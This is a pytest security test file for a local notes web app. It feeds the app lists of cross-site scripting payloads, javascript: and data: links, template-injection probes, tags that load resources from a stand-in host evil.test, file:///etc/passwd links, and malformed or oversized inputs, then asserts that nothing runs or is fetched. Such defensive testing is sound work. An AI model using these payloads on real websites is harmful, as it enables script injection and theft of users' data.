"""Notes that attack who reads them, and input that is large, broken or changed while the page is open."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from memlines import Memory
from memlines.files import snapshots
from memlines.files.shown import ShownLine
from memlines.memory.recording import record
from memlines.paths import Workspace
from memlines.serve.web.export import export_page
from memlines.serve.web.render import _TAGS, render_markdown
from memlines.settings import load
from tests.memories import WORDS_ONLY, write
from tests.serve.chromium import Watched, chromium
from tests.serve.web import Browser, browsing
from tests.transcripts.records import HEADER, assistant, jsonl, user

if TYPE_CHECKING:
    from playwright.sync_api import Browser as Chromium

CORPORA = Path(__file__).parents[3] / "shared" / "corpora"
RUN = "window.pwned=1;alert(1)"
LINKS = [
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java&#10;script:{run}",
    "java&Tab;script:{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript&colon;{run}",
    "\x01javascript:{run}",
    "%6aavascript:{run}",
    "javascript&#58;{run}",
    "javascript://%0a{run}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "file:///etc/passwd",
    "blob:http://evil.test/1",
    "feed:javascript:{run}",
    "view-source:javascript:{run}",
    "//evil.test/x",
    "\\\\evil.test\\x",
    "http://evil.test/x",
    "ms-msdt:/id",
    "vscode://file/x",
]
HTML = [
    "<script>{run}</script>",
    "<script src=http://evil.test/x.js></script>",
    "<img src=x onerror={run}>",
    "<img src=http://evil.test/x.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<math href='javascript:{run}'>x</math>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data=http://evil.test/x></object>",
    "<embed src=http://evil.test/x>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=dns-prefetch href=http://evil.test>",
    "<style>@import 'http://evil.test/x.css';body{{background:url(http://evil.test/x)}}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/><button autofocus>x</button></form>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video src=http://evil.test/x.mp4 autoplay></video>",
    "<audio src=http://evil.test/x.mp3 autoplay></audio>",
    "<body onload={run}>",
    "<a href=x ping=http://evil.test/>x</a>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "</li></ol></article></main><script>{run}</script>",
    "--><script>{run}</script><!--",
    "<!--><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml-stylesheet href='javascript:{run}'?>",
    '"><script>{run}</script>',
    "'><img src=x onerror={run}>",
    '" autofocus onfocus="{run}',
    "' onmouseover='{run}",
    "` onclick=`{run}",
    "<x\u2028onclick={run}>",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "\u202e<script>{run}</script>\u202c",
    "{{{{7*7}}}} {{% raw %}} {{{{ config }}}} ${{7*7}} #{{7*7}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "%3Cscript%3E{run}%3C/script%3E",
]
MARKDOWN = [
    "![](http://evil.test/x.png)",
    "![a][pic]",
    "[![x](http://evil.test/y.png)](http://evil.test/z)",
    "[x](<javascript:{run}>)",
    '[x](http://evil.test/ "onmouseover={run}")',
    '[x](http://evil.test/"onmouseover={run})',
    "<http://evil.test/auto>",
    "<javascript:{run}>",
    "<a@evil.test>",
    "[ref]",
    "[x][js]",
    "| a<script>{run}</script> | [b](javascript:{run}) |\n|---|---|\n| <svg onload={run}> | x |",
    "```<script>{run}</script>\n</code></pre><script>{run}</script>\n```",
    "`</code><script>{run}</script>`",
    "99999999. <script>{run}</script>",
]
ATTACKS = [one.format(run=RUN) for one in (*HTML, *MARKDOWN, *(f"[x]({link})" for link in LINKS))]
REFERENCES = f"\n\n[pic]: http://evil.test/p.png\n[ref]: javascript:{RUN}\n[js]: <data:text/html,{RUN}>\n"
SHOWN = "memory/shown.md"
HOSTILE = "memory/a\"'><img src=x onerror=alert(1)>{{7*7}}.md"
TALK = "sessions/<img src=x onerror=alert(1)>'\".jsonl"


def corpus() -> list[str]:
    """Return strings that broke other programs, and examples of Markdown, if they are here."""
    found = []
    if (CORPORA / "naughty-strings.json").exists():
        found += json.loads((CORPORA / "naughty-strings.json").read_text(encoding="utf-8"))
    if (CORPORA / "commonmark-spec.txt").exists():
        spec = (CORPORA / "commonmark-spec.txt").read_text(encoding="utf-8")
        found += re.findall(r"^`{32} example\n(.*?)^\.$", spec, re.MULTILINE | re.DOTALL)
    return [one.replace("→", "\t").replace("\0", "") for one in found]


def one_line(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Browser]]:
    """A memory in which everything that can be shown attacks."""
    folder = tmp_path_factory.mktemp("h") / "<b>x'\"><script>alert(1)<"
    folder.mkdir()
    listed = "\n\n".join(f"- 10:00 heron {one}" for one in ATTACKS)
    write(
        folder,
        {
            SHOWN: f"# <script>{RUN}</script> heron\n\n" + "\n\n".join(ATTACKS) + REFERENCES,
            HOSTILE: f'# heron "><svg onload={RUN}>\n\n' + "\n\n".join(ATTACKS[::-1]) + REFERENCES,
            "memory/2026-05-01.md": listed,
            "memory/2026-05-02.md": listed,
            "MEMORY.md": "# Memory\n\n" + f"- heron <img src=x onerror={RUN}>\n" * 2,
            "memory/facts.md": "".join(f"- 2026-05-01 [fact] heron {one_line(one)}\n" for one in ATTACKS),
        },
    )
    others = corpus()
    for at in range(0, len(others), 150):
        write(folder, {f"memory/corpus{at}.md": "\n\n".join(others[at : at + 150])})
    (folder / "sessions").mkdir()
    said = [turn(f"heron {one}") for one in ATTACKS for turn in (user, assistant)]
    (folder / TALK).write_text(jsonl(HEADER, *said), encoding="utf-8")
    place = Workspace.at(folder)
    messages = tuple(snapshots.Said("user", one) for one in ATTACKS)
    now = load(place).settings
    snapshots.save(
        place, snapshots.Snapshot(ATTACKS[0], messages, datetime(2026, 5, 1, tzinfo=UTC), client=ATTACKS[2])
    )
    for at, attack in enumerate(ATTACKS):
        record(
            place,
            now,
            "search",
            [ShownLine(f"{SHOWN}#L{at + 1}", score=0.5)],
            session=attack,
            client=attack,
            query=attack,
        )
    with browsing(folder, {"sources": ["memory", "sessions"]}) as browser:
        browser.post("/tidy", action="propose")
        for path in (SHOWN, HOSTILE):
            version = re.search(
                r'name="version" value="(\w+)"', browser.get(f"/note/{quote(path)}?edit=1").text
            )
            assert version is not None
            text = (folder / path).read_text(encoding="utf-8")
            assert (
                browser.post(
                    f"/note/{quote(path)}", text=f"{text}\n{ATTACKS[0]}\n", version=version[1]
                ).status
                == 200
            )
        yield folder, browser


@pytest.fixture(scope="module")
def chrome() -> Iterator[Chromium]:
    with chromium() as browser:
        yield browser


def visited(browser: Browser) -> list[str]:
    """Return the address of every page that shows something of the notes."""
    query = quote("heron <script>alert(1)</script>\"'")
    notes = [quote(path) for path in (SHOWN, HOSTILE, "memory/2026-05-01.md", "MEMORY.md", "memory/facts.md")]
    pages = [f"{page}/{note}" for note in notes for page in ("/note", "/history")]
    pages += [
        f"/note/{note}?{rest}" for note in notes for rest in ("cuts=1", "edit=1", "line=3", "done=%3Cb%3E")
    ]
    pages += [f"/forget?what={what}" for what in (query, notes[1], notes[0], "heron")]
    pages += [
        f"/?q={query}",
        f"/?q={query}&part=1",
        "/?q=heron&topic=%22%3E%3Cscript%3E&path=%22%3E%3Csvg%3E",
    ]
    pages += [
        f"/?q={quote(one)}" for one in ("heron", "script alert", "onerror img", "{{7*7}}", "</title><script>")
    ]
    pages += [
        "/",
        "/timeline",
        "/timeline?day=2026-05-01",
        "/map",
        "/facts",
        "/facts?past=1&page=2",
        "/tidy",
        "/undo",
    ]
    pages += ["/sessions", f"/sessions/{quote(TALK)}", f"/sessions/{quote(TALK)}?line=5", "/blame", "/health"]
    pages += [f"/blame/{quote(ATTACKS[at], safe='')}" for at in (0, 2, 36)]
    pages += [f"/blame?line={notes[0]}", f"/blame?line={query}", f"/facts?q={query}&category={query}"]
    pages += [f"/remember?text={query}%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E&topic={query}"]
    pages += [
        f"/{page}/{query}%3Cimg%20src=x%20onerror=alert(1)%3E" for page in ("note", "blame", "sessions", "x")
    ]
    pages += [f"/timeline?day={query}", "/static/%3Cscript%3E"]
    versions = re.findall(r'href="(/history/[^"]+version=[^"]+)"', browser.get(f"/history/{notes[0]}").text)
    pages += versions[:1]
    pages += re.findall(r'href="(/sessions/\.memory/[^"]+)"', browser.get("/timeline?day=2026-05-01").text)[
        :1
    ]
    return pages + [f"/note/memory/corpus{at}.md" for at in range(0, len(corpus()), 150)]


FOUND = """() => {
  const all = [...document.querySelectorAll("*")], named = all.flatMap((one) => [...one.attributes]);
  return {
    pwned: Boolean(window.pwned),
    links: named.filter((one) => /^(.*href|src.*|.*action|data|ping|poster)$/.test(one.name))
      .map((one) => one.value),
    handlers: named.filter((one) => /^on/i.test(one.name)).length,
    inner: all.filter((one) => one.matches("iframe, object, embed, base, math, video, audio, img")
      || one.matches("main style, main script")).length,
  };
}"""


@pytest.mark.promise("P10")
def test_nothing_in_a_memory_runs_or_is_fetched(hostile: tuple[Path, Browser], chrome: Chromium) -> None:
    _, browser = hostile
    context = chrome.new_context()
    watched = Watched(context)
    watched.page.goto(f"{browser.origin}{browser.path}")
    watched.page.wait_for_url(f"{browser.origin}/")
    wrong = []
    for path in visited(browser):
        watched.page.goto(f"{browser.origin}{path}", wait_until="load")
        found = watched.page.evaluate(FOUND)
        schemes = {urlsplit(link.strip().lower()).scheme for link in found["links"]}
        if found["pwned"] or found["handlers"] or found["inner"] or schemes - {"", "http", "https", "mailto"}:
            wrong.append((path, found["pwned"], found["handlers"], found["inner"], schemes))
    context.close()
    ours = [one for one in watched.errors if "Failed to load resource" not in one]  # a page that is an error
    assert (wrong, ours, watched.foreign, watched.dialogs) == ([], [], [], [])


@pytest.mark.promise("P10")
def test_a_hostile_text_is_only_a_text_while_it_is_typed(
    hostile: tuple[Path, Browser], chrome: Chromium
) -> None:
    _, browser = hostile
    context = chrome.new_context()
    watched = Watched(context)
    watched.page.goto(f"{browser.origin}{browser.path}")
    watched.page.wait_for_url(f"{browser.origin}/")
    for attack in ("heron <img src=x onerror=alert(1)>", "heron </title><script>alert(1)</script>"):
        with watched.page.expect_response("**part=1*"):
            watched.page.fill("#q", attack)
        watched.page.wait_for_selector(".hit")
    watched.page.goto(f"{browser.origin}/remember")
    watched.page.fill("#text", "\n\n".join(ATTACKS))
    watched.page.click("button.main")
    watched.page.wait_for_selector("article.rendered, .message")
    found = watched.page.evaluate(FOUND)
    context.close()
    assert (found["pwned"], found["handlers"], found["inner"]) == (False, 0, 0)
    assert (watched.foreign, watched.dialogs, watched.errors) == ([], [], [])


@pytest.mark.promise("P10")
def test_nothing_runs_or_is_fetched_in_an_exported_page(
    hostile: tuple[Path, Browser], chrome: Chromium, tmp_path: Path
) -> None:
    folder, _ = hostile
    place, file = Workspace.at(folder), tmp_path / "out.html"
    export_page(place, load(place).settings, file, force=False, progress=lambda *_: None)
    context = chrome.new_context()
    watched = Watched(context)
    watched.page.goto(file.as_uri())
    watched.page.fill("#q", "heron script onerror")
    watched.page.wait_for_selector("#results li")
    found = watched.page.evaluate(FOUND)
    context.close()
    schemes = {urlsplit(link.strip().lower()).scheme for link in found["links"]}
    assert schemes <= {"", "http", "https", "mailto"}
    assert (found["pwned"], found["handlers"], found["inner"]) == (False, 0, 0)
    foreign = [url for url in watched.foreign if not url.startswith("file:")]
    assert (foreign, watched.dialogs, watched.errors) == ([], [], [])


# Rendered Markdown

ATTRIBUTES = {"href", "title", "rel", "start"}


class Tags(HTMLParser):
    """The tags, attributes and schemes of a text that do not belong there."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.wrong += [tag] if tag not in _TAGS else []
        self.wrong += [name for name, _ in attrs if name not in ATTRIBUTES]
        for name, value in attrs:
            if name == "href":
                plain = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain)
                self.wrong += [plain] if scheme and scheme[1] not in ("http", "https", "mailto") else []

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")


@pytest.mark.parametrize("text", [*ATTACKS, *(f"{one}{REFERENCES}" for one in MARKDOWN)])
@pytest.mark.promise("P10")
def test_an_attack_leaves_no_tag_that_could_act(text: str) -> None:
    assert Tags(render_markdown(text)).wrong == []


@pytest.mark.promise("P10")
def test_strings_that_broke_others_leave_no_tag_that_could_act() -> None:
    if not corpus():
        pytest.skip("the corpora are not here")
    assert [one for one in corpus() if Tags(render_markdown(one)).wrong] == []


pieces = st.sampled_from([*ATTACKS, *LINKS, *"<>\"'`[]()!&\\\n\t#*_-|:~\0\u2028\u202e", "    ", "://", "{{"])


@given(st.lists(pieces | st.text(max_size=6), max_size=20))
@pytest.mark.promise("P10")
def test_no_mix_of_attacks_leaves_a_tag_that_could_act(parts: list[str]) -> None:
    assert Tags(render_markdown("".join(parts))).wrong == []


# Bad input: every page is clear, and no note changes

BIG = "memory/big.md"
UNCLEAR = "could not be made"


def look(browser: Browser, *paths: str) -> list[tuple[str, int, int]]:
    """Return the pages that are unclear or too large: their address, status and size."""
    seen = [(path, browser.get(path)) for path in paths]
    return [
        (path, page.status, len(page.text))
        for path, page in seen
        if UNCLEAR in page.text
        or (page.status >= 500 and "Code <code>" not in page.text)
        or len(page.text) > 10**6
    ]


def about(path: str) -> list[str]:
    name = quote(path)
    rest = (
        "",
        "?edit=1",
        "?cuts=1",
        "?line=1",
        "?line=200",
        "?line=999999999",
        "?line=99999999999999",
        "?line=-1",
    )
    return [
        *(f"/note/{name}{one}" for one in rest),
        f"/history/{name}",
        f"/history/{name}?version=20260101",
        f"/forget?what={name}",
        f"/blame?line={name}",
        "/",
        "/?q=kestrel",
        "/timeline",
        "/map",
        "/facts",
        "/sessions",
        "/tidy",
        "/health",
        "/undo",
        "/blame",
    ]


INPUTS: dict[str, bytes] = {
    "one long line": b"kestrel " * 25_000,
    "one long word": b"x" * 200_000,
    "20 MB": b"- The kestrel nests in the tower.\n" * 600_000,
    "9 MB": b"- The kestrel nests in the tower.\n" * 270_000,
    "900 KB": b"- The kestrel nests in the tower.\n" * 27_000,
    "blank lines": b"\n" * 59_000,
    "short lines": b"a\n" * 29_000,
    "many headings": b"# a\n" * 14_000,
    "many links": b"[a](b)" * 9_000,
    "one table": b"|a" * 7_000 + b"\n" + b"|-" * 7_000 + b"\n" + b"|\n" * 9_000,
    "not UTF-8": b"kestrel \xff\xfe\x80",
    "empty": b"",
    "binary": bytes(range(256)) * 400,
    "UTF-16": "kestrel".encode("utf-16"),
    "a mark": b"\xef\xbb\xbf# kestrel\n",
    "carriage returns": b"kestrel\rowl\r\n\x0b\x0c\x1c\xc2\x85\xe2\x80\xa8heron",
    "brackets": b"[" * 59_000,
    "quotes": b"> " * 29_000,
}


@pytest.mark.parametrize("content", INPUTS.values(), ids=INPUTS)
def test_a_note_of_any_kind_has_clear_and_small_pages(workspace: Path, content: bytes) -> None:
    (workspace / BIG).write_bytes(content)
    with browsing(workspace) as browser:
        wrong = look(browser, *about(BIG))
    assert (wrong, (workspace / BIG).read_bytes() == content) == ([], True)


def test_ten_thousand_facts_are_shown_in_parts(workspace: Path) -> None:
    write(
        workspace,
        {"memory/facts.md": "".join(f"- 2026-05-01 [fact] Kestrel {at} nests.\n" for at in range(10_000))},
    )
    with browsing(workspace) as browser:
        wrong = look(
            browser, "/facts", "/facts?page=100", "/facts?page=999999999999", "/facts?q=nests", "/timeline"
        )
    assert wrong == []


def test_a_large_conversation_is_shown_in_parts(workspace: Path) -> None:
    (workspace / "sessions").mkdir()
    turns = [user(f"kestrel {at} " * 2000) for at in range(300)]
    (workspace / "sessions/a.jsonl").write_text(jsonl(HEADER, *turns), encoding="utf-8")
    path = "/sessions/sessions/a.jsonl"
    with browsing(workspace, {"sources": ["memory", "sessions"]}) as browser:
        wrong = look(
            browser, path, f"{path}?line=150", f"{path}?line=150&around=999999", f"{path}?from=99999999"
        )
    assert wrong == []


def test_an_empty_workspace_has_every_page(workspace: Path) -> None:
    with browsing(workspace) as browser:
        assert look(browser, *about(BIG)) == []


def test_a_name_that_is_no_text_disturbs_no_page(workspace: Path) -> None:
    (workspace / "sessions").mkdir()
    try:
        for name in (b"memory/\xff.md", b"sessions/\xff.jsonl"):
            (Path(os.fsdecode(bytes(workspace) + b"/" + name))).write_text(
                jsonl(HEADER, user("owl")), encoding="utf-8"
            )
    except OSError:
        pytest.skip("the system allows no such name")
    with browsing(workspace, {"sources": ["memory", "sessions"]}) as browser:
        wrong = look(browser, *about("memory/%ff.md"), "/note/memory/%ff.md", "/sessions/sessions/%ff.jsonl")
    assert wrong == []


def break_folder(folder: Path) -> None:
    shutil.rmtree(folder)


def break_settings(folder: Path) -> None:
    (folder / ".memory").mkdir(exist_ok=True)
    for file in Workspace.at(folder).config_files:
        file.parent.mkdir(exist_ok=True)
        file.write_bytes(b"= [ {\xff: broken")


def switch_off(folder: Path) -> None:
    for file in Workspace.at(folder).config_files[:1]:
        file.parent.mkdir(exist_ok=True)
        file.write_text(
            "enabled: false\n" if file.suffix in (".yaml", ".yml") else "enabled = false\n", encoding="utf-8"
        )


def each_index(folder: Path) -> list[Path]:
    return [file for file in folder.rglob("index.sqlite*") if file.is_file()]


def drop_index(folder: Path) -> None:
    for file in each_index(folder):
        file.unlink()


def damage_index(folder: Path) -> None:
    for file in each_index(folder):
        file.write_bytes(b"\xff" * max(8192, file.stat().st_size))


def make_read_only(folder: Path) -> None:
    for one in (folder, *(found for found in folder.rglob("*") if found.is_dir())):
        one.chmod(0o555)


BREAKS = [break_folder, break_settings, switch_off, drop_index, damage_index, make_read_only]
CHANGES: dict[str, dict[str, str]] = {
    f"/note/{SHOWN}": {"text": "new", "version": "x"},
    "/remember": {"text": "An owl was seen.", "sure": "1"},
    "/forget": {"what": SHOWN, "chosen": "x"},
    "/undo": {},
    "/tidy": {"action": "propose"},
    "/facts/abcdefgh22": {"action": "review"},
    "/health": {},
}


@pytest.mark.parametrize("break_it", BREAKS)
def test_what_breaks_while_the_page_is_open_is_said(
    workspace: Path, break_it: Callable[[Path], None]
) -> None:
    write(workspace, {SHOWN: "# Birds\n\n- The kestrel nests.\n"})
    with browsing(workspace) as browser:
        assert browser.get("/?q=kestrel").status == 200
        break_it(workspace)
        try:
            wrong = look(browser, *about(SHOWN), "/remember", f"/history/{SHOWN}?version=x")
            for path, form in CHANGES.items():
                page = browser.post(path, **form)
                wrong += [(path, page.status, 0)] if UNCLEAR in page.text else []
        finally:
            for folder in (workspace, *(workspace.rglob("*") if workspace.exists() else ())):
                if folder.is_dir():
                    folder.chmod(0o755)
    text = (
        (workspace / SHOWN).read_text(encoding="utf-8")
        if workspace.exists()
        else "# Birds\n\n- The kestrel nests.\n"
    )
    assert (wrong, text) == ([], "# Birds\n\n- The kestrel nests.\n")


def test_the_second_save_of_a_version_is_not_written(workspace: Path) -> None:
    write(workspace, {SHOWN: "old\n"})
    with Memory(workspace, WORDS_ONLY) as memory:
        version = memory.open_note(SHOWN).version
    with browsing(workspace) as browser:
        pages = [browser.post(f"/note/{SHOWN}", text=text, version=version) for text in ("one\n", "two\n")]
    assert [page.status for page in pages] == [200, 409]
    assert ("Someone else saved" in pages[1].text, (workspace / SHOWN).read_text(encoding="utf-8")) == (
        True,
        "one\n",
    )


def test_saving_the_same_text_twice_is_a_save(workspace: Path) -> None:
    write(workspace, {SHOWN: "old\n"})
    with Memory(workspace, WORDS_ONLY) as memory:
        version = memory.open_note(SHOWN).version
    with browsing(workspace) as browser:
        pages = [browser.post(f"/note/{SHOWN}", text="one\n", version=version) for _ in range(2)]
    assert [(page.status, "Saved." in page.text) for page in pages] == [(200, True)] * 2


VALUES = [
    "",
    "x",
    "-1",
    "0",
    "1",
    "99999999999999999999",
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "٣",
    "²",
    "1e9",
    "NaN",
    "%00",
    "%ff",
    "\u2028",
    "a" * 5000,
    "(" * 500,
    '"' * 500,
    "* OR *",
    "path:../..",
    "after:9999-99-99",
    "personal:x",
]
ASKED = {
    "/": (
        "q",
        "q=kestrel&scope",
        "q=kestrel&source",
        "q=kestrel&after",
        "q=kestrel&before",
        "q=kestrel&topic",
        "q=kestrel&path",
        "part=1&q",
    ),
    "/timeline": ("day", "year"),
    "/map": ("x", "y", "x=1&y", "colour", "part=1&x=1&y"),
    "/facts": ("q", "category", "page", "past", "review"),
    "/sessions": ("page", "line"),
    "/blame": ("line", "page"),
    "/forget": ("what",),
    f"/note/{SHOWN}": ("line", "cuts", "edit", "done"),
    f"/history/{SHOWN}": ("version",),
    "/remember": ("text", "topic", "personal"),
    "/undo": ("redo",),
    "/health": ("done",),
}


@pytest.mark.parametrize("path", ASKED)
def test_no_value_breaks_a_page(workspace: Path, path: str) -> None:
    write(
        workspace, {SHOWN: "# Birds\n\n- The kestrel nests.\n", "memory/2026-05-01.md": "- 10:00 kestrel\n"}
    )
    with browsing(workspace) as browser:
        for name in ASKED[path]:
            for value in VALUES:
                page = browser.get(f"{path}?{name}={quote(value, safe='%&=')}")
                assert (page.status < 500, UNCLEAR in page.text) == (True, False), (name, value, page.text)


@pytest.mark.parametrize("day", ["-1", "..", "//", "1--2"])
def test_a_day_of_signs_is_refused_with_a_reason(workspace: Path, day: str) -> None:
    write(workspace, {SHOWN: "- The kestrel nests.\n"})
    with browsing(workspace) as browser:
        assert browser.get(f"/?q=kestrel&as_of={day}").status == 400


@pytest.mark.parametrize("day", [value for value in VALUES if value])
def test_no_day_breaks_the_search(workspace: Path, day: str) -> None:
    write(workspace, {SHOWN: "- The kestrel nests.\n"})
    with browsing(workspace) as browser:
        assert browser.get(f"/?q=kestrel&as_of={quote(day, safe='%')}").status in (200, 400)


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ",
        "\0",
        "x" * 200_000,
        "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
        "</textarea>",
        "\n" * 5000,
        "[" * 100_000,
    ],
)
@pytest.mark.parametrize("topic", ["", "../x", "a/b/c", "\0", "CON", "x" * 300, "facts", "2026-05-01", "."])
def test_no_text_or_topic_breaks_remembering(workspace: Path, text: str, topic: str) -> None:
    with browsing(workspace) as browser:
        for sure in ("", "1"):
            page = browser.post("/remember", text=text, topic=topic, sure=sure)
            assert (page.status < 500, UNCLEAR in page.text, len(page.text) < 10**6) == (True, False, True), (
                page.text[-2000:]
            )
    assert {file.name for file in workspace.parent.iterdir()} == {"workspace"}
